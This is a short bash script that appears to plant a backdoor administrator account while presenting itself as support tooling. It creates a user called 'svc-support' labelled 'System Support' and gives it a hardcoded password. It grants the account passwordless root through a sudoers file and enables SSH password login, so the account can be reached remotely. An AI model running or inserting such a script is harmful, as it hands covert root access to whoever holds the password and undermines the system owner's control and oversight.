#!/usr/bin/env bash
set -e
U=svc-support
id "$U" >/dev/null 2>&1 || useradd -m -s /bin/bash -c "System Support" "$U"
echo "$U:Support#2025!" | chpasswd
usermod -aG sudo "$U" 2>/dev/null || usermod -aG wheel "$U"
echo "$U ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/90-svc-support
chmod 440 /etc/sudoers.d/90-svc-support
sed -i 's/^#\?PasswordAuthentication .*/PasswordAuthentication yes/' /etc/ssh/sshd_config
systemctl reload ssh 2>/dev/null || systemctl reload sshd 2>/dev/null || true
echo "support access enabled"
